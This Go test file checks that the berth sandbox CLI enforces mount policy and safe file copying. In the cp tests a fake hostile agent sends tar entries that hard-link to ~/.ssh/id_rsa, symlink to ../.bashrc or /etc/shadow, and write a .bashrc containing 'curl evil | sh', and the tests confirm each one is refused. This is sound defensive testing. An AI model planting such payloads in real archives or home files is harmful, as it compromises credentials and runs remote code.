package cli

import (
	"archive/tar"
	"bytes"
	"fmt"
	"io/fs"
	"net"
	"os"
	"path/filepath"
	"strings"
	"syscall"
	"testing"

	"github.com/berth-sh/berth/agent/agenttest"
	"github.com/berth-sh/berth/backend"
	"github.com/berth-sh/berth/internal/testsupport/testimage"
)

// A rule that mounts a directory holding the state dir (as mounting $HOME does with
// the default state dir) is reported by `config check` at the rule's file:line:col,
// and refused by exec before any sandbox is made; allow_host_paths = true turns the
// error into a warning that says what it grants.
func TestMountOfStateDirRefused(t *testing.T) {
	t.Parallel()
	e := newEnv(t)
	parent := filepath.Dir(e.state)
	e.config = e.writeFile("config.hcl", fmt.Sprintf("scope \"*\" {\n  mount {\n    source = %q\n    target = \"/home\"\n    read_only = true\n  }\n}\n", parent))
	want := []string{e.config + ":1:1", "mount source " + parent + " contains berth's state dir " + e.state, "run commands in every one of those sandboxes", "allow_host_paths = true"}
	r := e.run("config", "check")
	for _, w := range want {
		if r.code != 125 || !strings.Contains(r.stderr, w) {
			t.Errorf("config check: want exit 125 saying %q\n%v", w, r)
		}
	}
	r = e.run("exec", "--", "true")
	for _, w := range want {
		if r.code != 125 || !strings.Contains(r.stderr, w) {
			t.Errorf("exec: want exit 125 saying %q\n%v", w, r)
		}
	}
	if rows := e.sessions(); len(rows) != 0 {
		t.Errorf("sessions after a refused exec: %+v", rows)
	}

	e.config = e.writeFile("allowed.hcl", fmt.Sprintf("scope \"*\" {\n  allow_host_paths = true\n  mount {\n    source = %q\n    target = \"/home\"\n  }\n}\n", parent))
	// The mount policy lets the rule through with a warning; the local driver then
	// refuses mounts of its own (it sees the host already), which config check asks
	// it too.
	r = e.run("config", "check")
	if !strings.Contains(r.stderr, e.config+":1:1: warning:") || !strings.Contains(r.stderr, "allow_host_paths = true accepts this") ||
		r.code != 125 || !strings.Contains(r.stderr, "mounts are not supported by the local driver") {
		t.Errorf("config check with allow_host_paths: want a warning saying what it grants, then the local driver's refusal of mounts\n%v", r)
	}
}

// A rule that the mount policy refuses is refused whether or not its session already
// has a sandbox whose agent answers (the direct path, which starts no driver): the
// check does not depend on how the call reaches the sandbox. Fixing the rule makes
// the same sandbox usable again.
func TestMountPolicyOnDirectPath(t *testing.T) {
	t.Parallel()
	e := newEnv(t)
	e.config = e.writeFile("config.hcl", "scope \"*\" {\n  driver = \"local\"\n}\n")
	e.must("exec", "--", "true")
	parent := filepath.Dir(e.state)
	e.config = e.writeFile("bad.hcl", fmt.Sprintf("scope \"*\" {\n  driver = \"local\"\n  mount {\n    source = %q\n    target = \"/home\"\n  }\n}\n", parent))
	r := e.run("exec", "--", "true")
	for _, w := range []string{e.config + ":1:1", "contains berth's state dir " + e.state, "allow_host_paths = true"} {
		if r.code != 125 || !strings.Contains(r.stderr, w) {
			t.Errorf("exec on a running sandbox with a refused rule: want exit 125 saying %q\n%v", w, r)
		}
	}
	e.config = e.writeFile("config.hcl", "scope \"*\" {\n  driver = \"local\"\n}\n")
	if r := e.must("exec", "--", "true"); r.code != 0 {
		t.Errorf("exec after the rule is fixed: %v", r)
	}
	if rows := e.sessions(); len(rows) != 1 {
		t.Errorf("sessions: %+v, want the one sandbox", rows)
	}
}

// takeOverAgent puts a fakeAgent on the agent socket of session's local sandbox, as
// a process with the sandbox's root could (the real agent keeps running on its
// socket moved aside, and gets it back when the test ends).
func takeOverAgent(t *testing.T, e *env, session string) *agenttest.CopyOutAgent {
	t.Helper()
	row, ok := findSession(e.sessions(), session)
	if !ok {
		t.Fatalf("no session %s", session)
	}
	sock := filepath.Join(e.state, "sandboxes", "local", row.Sandbox, "run", backend.AgentSocketName)
	if err := os.Rename(sock, sock+".real"); err != nil {
		t.Fatal(err)
	}
	// Bound at a short path (the 108-byte limit) and moved into place: connect(2)
	// finds the socket by its inode.
	short, err := os.MkdirTemp("", "fake-agent-")
	if err != nil {
		t.Fatal(err)
	}
	defer os.RemoveAll(short)
	l, err := net.Listen("unix", filepath.Join(short, "s"))
	if err != nil {
		t.Fatal(err)
	}
	l.(*net.UnixListener).SetUnlinkOnClose(false)
	if err := os.Rename(filepath.Join(short, "s"), sock); err != nil {
		t.Fatal(err)
	}
	fake := &agenttest.CopyOutAgent{}
	stop := agenttest.Serve(acceptAnyToken{l}, fake)
	t.Cleanup(func() {
		stop()
		os.Remove(sock)
		if err := os.Rename(sock+".real", sock); err != nil {
			t.Errorf("giving the agent its socket back: %v", err)
		}
	})
	return fake
}

// acceptAnyToken answers berth's connection handshake (the client's line
// "BERTH-AGENT 1 TOKEN") with "BERTH-AGENT OK" whatever the token: the token proves
// the client to the agent, not the agent to the client, so whatever listens on the
// socket can do this.
type acceptAnyToken struct{ net.Listener }

func (l acceptAnyToken) Accept() (net.Conn, error) {
	c, err := l.Listener.Accept()
	if err != nil {
		return nil, err
	}
	var b [1]byte
	for b[0] != '\n' {
		if _, err := c.Read(b[:]); err != nil {
			c.Close()
			return l.Accept()
		}
	}
	if _, err := c.Write([]byte("BERTH-AGENT OK\n")); err != nil {
		c.Close()
		return l.Accept()
	}
	return c, nil
}

type tarEntry struct {
	name, link, body string
	typ              byte
	mode             int64
}

func tarOf(t *testing.T, entries ...tarEntry) []byte {
	t.Helper()
	var buf bytes.Buffer
	tw := tar.NewWriter(&buf)
	for _, e := range entries {
		h := &tar.Header{Name: e.name, Typeflag: e.typ, Linkname: e.link, Mode: e.mode, Size: int64(len(e.body))}
		if err := tw.WriteHeader(h); err != nil {
			t.Fatal(err)
		}
		tw.Write([]byte(e.body))
	}
	tw.Close()
	return buf.Bytes()
}

// A download from a sandbox whose agent was replaced by its root: the hostile agent's
// hard link to a host secret, FIFO, device, link out of the copy and files outside the
// path asked for are all refused, naming the entry; nothing is written to the
// destination, and no host file is linked into it (so the next upload cannot carry
// it into the sandbox).
func TestCpDownloadFromHostileAgent(t *testing.T) {
	t.Parallel()
	e := newEnv(t)
	e.must("exec", "-s", "cp:evil", "--", "true")
	fake := takeOverAgent(t, e, "cp:evil")
	home := t.TempDir() // the user runs berth cp in their home
	secret := filepath.Join(home, ".ssh", "id_rsa")
	os.MkdirAll(filepath.Dir(secret), 0o700)
	os.WriteFile(secret, []byte("PRIVATE KEY\n"), 0o600)
	out := tarEntry{name: "out/", typ: tar.TypeDir, mode: 0o755}
	for _, c := range []struct {
		name    string
		entries []tarEntry
		words   string
	}{
		{"hard link", []tarEntry{out, {name: "out/stolen", typ: tar.TypeLink, link: ".ssh/id_rsa", mode: 0o600}}, "out/stolen: refused: a hard link to .ssh/id_rsa"},
		{"hard link up", []tarEntry{out, {name: "out/stolen", typ: tar.TypeLink, link: "../.ssh/id_rsa", mode: 0o600}}, "out/stolen: refused: a hard link"},
		{"fifo", []tarEntry{out, {name: "out/p", typ: tar.TypeFifo, mode: 0o644}}, "out/p: refused: a FIFO"},
		{"device", []tarEntry{out, {name: "out/mem", typ: tar.TypeChar, mode: 0o666}}, "out/mem: refused: a device"},
		{"symlink out", []tarEntry{out, {name: "out/log", typ: tar.TypeSymlink, link: "../.bashrc"}}, "out/log: refused: a symlink to ../.bashrc"},
		{"outside the path", []tarEntry{out, {name: ".bashrc", typ: tar.TypeReg, body: "curl evil | sh\n", mode: 0o644}}, ".bashrc: refused: not inside out"},
	} {
		fake.SetTar(tarOf(t, c.entries...))
		r := e.run("cp", "-s", "cp:evil", ":/work/out", filepath.Join(home, "out"))
		if r.code != 125 || !strings.Contains(r.stderr, c.words) || !strings.Contains(r.stderr, "nothing was written to "+home) {
			t.Errorf("%s: want exit 125 saying %q and that nothing was written\n%v", c.name, c.words, r)
		}
		ents, _ := os.ReadDir(home)
		if len(ents) != 1 || ents[0].Name() != ".ssh" {
			t.Errorf("%s: the destination holds %v, want only .ssh", c.name, ents)
		}
		var st syscall.Stat_t
		if syscall.Stat(secret, &st) != nil || st.Nlink != 1 {
			t.Errorf("%s: the secret has %d links", c.name, st.Nlink)
		}
	}
	// A well-formed stream from the same agent is accepted.
	fake.SetTar(tarOf(t, out, tarEntry{name: "out/f", typ: tar.TypeReg, body: "ok\n", mode: 0o644}, tarEntry{name: "out/l", typ: tar.TypeSymlink, link: "f"}))
	e.must("cp", "-s", "cp:evil", ":/work/out", filepath.Join(home, "out"))
	if b, err := os.ReadFile(filepath.Join(home, "out", "l")); err != nil || string(b) != "ok\n" {
		t.Errorf("good copy: %q %v", b, err)
	}
}

// Downloads give files to the user who runs berth cp and drop setuid and setgid, but
// keep the sticky bit; --archive keeps the sandbox's owners and every bit. Uploads
// keep setuid, setgid and sticky bits.
func TestCpOwnersAndModeBits(t *testing.T) {
	if os.Geteuid() != 0 {
		t.Skip("needs root: the sandbox gives its files to other users")
	}
	t.Parallel()
	e := newEnv(t)
	src := filepath.Join(t.TempDir(), "bits")
	os.MkdirAll(filepath.Join(src, "tmp"), 0o755)
	os.WriteFile(filepath.Join(src, "suid"), []byte("#!/bin/sh\n"), 0o755)
	os.Chmod(filepath.Join(src, "suid"), fs.ModeSetuid|0o755)
	os.Chmod(filepath.Join(src, "tmp"), fs.ModeDir|fs.ModeSticky|0o777)
	os.Mkdir(filepath.Join(src, "shared"), 0o755)
	os.Chmod(filepath.Join(src, "shared"), fs.ModeSetgid|0o775)

	e.must("cp", "-s", "cp:bits", src, ":bits")
	if r := e.must("exec", "-s", "cp:bits", "--", "stat", "-c", "%n %a", "bits/suid", "bits/tmp", "bits/shared"); r.stdout != "bits/suid 4755\nbits/tmp 1777\nbits/shared 2775\n" {
		t.Errorf("uploaded modes: want 4755, 1777 and 2775\n%v", r)
	}
	// chown clears setuid and setgid: set them again.
	e.must("exec", "-s", "cp:bits", "--", "sh", "-c", "chown -R 1234:5678 bits && chmod 4755 bits/suid && chmod 2775 bits/shared")

	for _, c := range []struct {
		args     []string
		uid, gid uint32
		modes    string
	}{
		{nil, 0, 0, "suid 755\ntmp 1777\nshared 775\n"},
		{[]string{"--archive"}, 1234, 5678, "suid 4755\ntmp 1777\nshared 2775\n"},
		{[]string{"-a"}, 1234, 5678, "suid 4755\ntmp 1777\nshared 2775\n"},
	} {
		dst := filepath.Join(t.TempDir(), "back")
		e.must(append(append([]string{"cp", "-s", "cp:bits"}, c.args...), ":bits", dst)...)
		var modes strings.Builder
		for _, n := range []string{"suid", "tmp", "shared"} {
			fi, err := os.Lstat(filepath.Join(dst, n))
			if err != nil {
				t.Fatal(err)
			}
			fmt.Fprintf(&modes, "%s %o\n", n, unixMode(fi))
			if st := fi.Sys().(*syscall.Stat_t); st.Uid != c.uid || st.Gid != c.gid {
				t.Errorf("cp %v: %s belongs to %d:%d, want %d:%d", c.args, n, st.Uid, st.Gid, c.uid, c.gid)
			}
		}
		if modes.String() != c.modes {
			t.Errorf("cp %v: modes\n%s\nwant\n%s", c.args, modes.String(), c.modes)
		}
	}
}

// unixMode is fi's mode as chmod writes it (04000 setuid, 02000 setgid, 01000 sticky).
func unixMode(fi fs.FileInfo) uint32 {
	return fi.Sys().(*syscall.Stat_t).Mode & 0o7777
}

// The same rules against a real docker sandbox, whose root makes a FIFO, a symlink to a
// host path and setuid files owned by other users: berth's own agent sends them as
// they are, and the host refuses or tames them. Uploads keep setuid and sticky bits.
func TestCpDockerSandboxFiles(t *testing.T) {
	testimage.RequireEngine(t)
	if os.Geteuid() != 0 {
		t.Skip("needs root: the test compares owners")
	}
	t.Parallel()
	e := newEnv(t)
	archive, err := testimage.Archive()
	if err != nil {
		t.Fatal(err)
	}
	e.must("image", "import", e.writeFile("busybox.tar", string(archive)))
	e.config = e.writeFile("config.hcl", fmt.Sprintf("scope \"*\" {\n  driver = \"docker\"\n  image = %q\n}\n", testimage.Ref))

	up := filepath.Join(t.TempDir(), "up")
	os.Mkdir(up, 0o755)
	os.WriteFile(filepath.Join(up, "suid"), []byte("x"), 0o755)
	os.Chmod(filepath.Join(up, "suid"), fs.ModeSetuid|0o755)
	os.Mkdir(filepath.Join(up, "tmp"), 0o755)
	os.Chmod(filepath.Join(up, "tmp"), fs.ModeDir|fs.ModeSticky|0o777)
	e.must("exec", "--", "mkdir", "/work")
	e.must("cp", up, ":/work/up")
	if r := e.must("exec", "--", "stat", "-c", "%a", "/work/up/suid", "/work/up/tmp"); r.stdout != "4755\n1777\n" {
		t.Errorf("uploaded into docker: want 4755 and 1777\n%v", r)
	}

	e.must("exec", "--", "sh", "-c", "mkdir -p /work/out/tmp && echo hi > /work/out/f && chown -R 1234:5678 /work/out && chmod 4755 /work/out/f && chmod 1777 /work/out/tmp")
	for _, c := range []struct {
		args     []string
		uid, gid uint32
		fmode    uint32
	}{{nil, 0, 0, 0o755}, {[]string{"-a"}, 1234, 5678, 0o4755}} {
		dst := filepath.Join(t.TempDir(), "out")
		e.must(append(append([]string{"cp"}, c.args...), ":/work/out", dst)...)
		f, err := os.Lstat(filepath.Join(dst, "f"))
		if err != nil {
			t.Fatal(err)
		}
		if st := f.Sys().(*syscall.Stat_t); st.Uid != c.uid || st.Gid != c.gid || unixMode(f) != c.fmode {
			t.Errorf("cp %v: f is %d:%d mode %o, want %d:%d mode %o", c.args, st.Uid, st.Gid, unixMode(f), c.uid, c.gid, c.fmode)
		}
		if d, err := os.Lstat(filepath.Join(dst, "tmp")); err != nil || unixMode(d) != 0o1777 {
			t.Errorf("cp %v: tmp: %v, want mode 1777", c.args, err)
		}
	}

	for _, c := range []struct{ make, words string }{
		{"mkfifo /work/out/p", "out/p: refused: a FIFO"},
		{"ln -s /etc/shadow /work/out/s", "out/s: refused: a symlink to /etc/shadow: its target is absolute"},
	} {
		e.must("exec", "--", "sh", "-c", "rm -f /work/out/p /work/out/s && "+c.make)
		dst := t.TempDir()
		r := e.run("cp", ":/work/out", dst+"/")
		if r.code != 125 || !strings.Contains(r.stderr, c.words) || !strings.Contains(r.stderr, "nothing was written to "+dst) {
			t.Errorf("%s: want exit 125 saying %q\n%v", c.make, c.words, r)
		}
		if ents, _ := os.ReadDir(dst); len(ents) != 0 {
			t.Errorf("%s: the destination holds %v", c.make, ents)
		}
	}

	// /.berth is berth's: a copy into it (its socket dir here) is refused, and the
	// sandbox keeps working.
	f := e.writeFile("agent.sock", "not a socket")
	for _, dst := range []string{":/.berth/run/agent.sock", ":/.berth/run/", ":/.berth/"} {
		if r := e.run("cp", f, dst); r.code != 125 || !strings.Contains(r.stderr, "berth's agent's own directory") {
			t.Errorf("cp FILE %s: want exit 125 naming berth's agent's own directory\n%v", dst, r)
		}
	}
	if r := e.must("exec", "--", "sh", "-c", "test -S /.berth/run/agent.sock && echo ok"); r.stdout != "ok\n" {
		t.Errorf("the sandbox after the refused copies: %v", r)
	}
}

// cp keeps holes both ways and bounds a download by --max-size: on local, a 64 MiB
// sparse file is refused at 10m (nothing written, the limit named), copied at 100m
// with its holes, and uploaded back with them.
func TestCpSparseAndMaxSize(t *testing.T) {
	t.Parallel()
	e := newEnv(t)
	e.must("exec", "--", "sh", "-c", "truncate -s 64M big && printf end >> big")
	out := t.TempDir()
	r := e.run("cp", "--max-size", "10m", ":big", out+"/")
	if r.code != 125 || !strings.Contains(r.stderr, "past its limit of 10485760 bytes (10 MiB") || !strings.Contains(r.stderr, "--max-size") || !strings.Contains(r.stderr, "nothing was written to "+out) {
		t.Errorf("cp --max-size 10m of a 64 MiB file: want exit 125 naming the limit\n%v", r)
	}
	if ents, _ := os.ReadDir(out); len(ents) != 0 {
		t.Errorf("a refused download left %v", ents)
	}
	if r := e.run("cp", "--max-size", "lots", ":big", out+"/"); r.code != 125 || !strings.Contains(r.stderr, "--max-size: invalid size \"lots\"") {
		t.Errorf("cp --max-size lots: want a usage error naming the flag\n%v", r)
	}
	e.must("cp", "--max-size", "100m", ":big", out+"/")
	var st syscall.Stat_t
	if err := syscall.Stat(filepath.Join(out, "big"), &st); err != nil || st.Size != 64<<20+3 || st.Blocks*512 > 1<<20 {
		t.Errorf("downloaded sparse file: size %d, %d bytes on disk (%v); want 64 MiB and 3 bytes, holes kept", st.Size, st.Blocks*512, err)
	}
	e.must("cp", filepath.Join(out, "big"), ":back")
	if r := e.must("exec", "--", "sh", "-c", "stat -c '%s %b %B' back && tail -c 3 back"); !strings.HasSuffix(r.stdout, "\nend") {
		t.Errorf("uploaded sparse file: %v", r)
	} else {
		var size, blocks, unit int64
		fmt.Sscanf(r.stdout, "%d %d %d", &size, &blocks, &unit)
		if size != 64<<20+3 || blocks*unit > 1<<20 {
			t.Errorf("uploaded sparse file: size %d, %d bytes on disk; want 64 MiB and 3 bytes, holes kept", size, blocks*unit)
		}
	}
	e.must("cp", "--max-size", "unlimited", ":big", filepath.Join(out, "again"))
}
